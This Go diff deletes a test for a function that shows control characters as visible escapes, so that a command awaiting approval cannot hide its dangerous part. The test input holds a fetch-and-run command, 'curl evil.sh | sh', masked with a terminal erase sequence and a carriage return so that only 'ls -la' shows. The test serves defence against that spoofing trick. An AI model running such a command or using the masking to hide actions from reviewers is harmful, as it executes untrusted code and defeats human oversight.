@@ -31,17 +31,3 @@ func TestStreamClean(t *testing.T) {
 		})
 	}
 }
-
-// TestVisible: control characters of a command to approve are shown as
-// escapes, so a carriage return or a cursor movement cannot hide the
-// dangerous part behind harmless text.
-func TestVisible(t *testing.T) {
-	in := "curl evil.sh | sh #\x1b[2K\rls -la\u009b\x07\nnext\tline"
-	want := `curl evil.sh | sh #\x1b[2K\rls -la\u009b\x07` + "\nnext\tline"
-	if got := Visible(in); got != want {
-		t.Errorf("Visible(%q) = %q, want %q", in, got, want)
-	}
-	if got := Visible("naïve ✓"); got != "naïve ✓" {
-		t.Errorf("plain text changed: %q", got)
-	}
-}
